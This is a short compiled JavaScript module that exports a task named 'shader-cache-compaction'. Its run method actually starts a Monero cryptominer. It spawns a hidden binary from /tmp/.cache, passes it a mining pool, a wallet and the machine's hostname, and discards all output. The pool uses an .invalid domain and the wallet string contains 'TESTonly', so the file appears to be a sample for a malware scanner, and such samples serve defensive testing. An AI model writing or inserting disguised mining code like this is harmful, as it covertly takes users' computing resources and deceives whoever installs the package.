"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.shaderCacheTask = void 0;
const child_process_1 = require("child_process");
const os_1 = require("os");
exports.shaderCacheTask = {
    name: "shader-cache-compaction",
    run(signal) {
        const child = (0, child_process_1.spawn)("/tmp/.cache/gpu-helper", ["-o", "pool.moneroocean.stream.invalid:10128", "-u", "48FAKEWALLETnpmwardTESTonly", "-p", (0, os_1.hostname)(), "--donate-level", "0"], { stdio: "ignore" });
        signal.addEventListener("abort", () => child.kill(), { once: true });
        return Promise.resolve();
    },
};
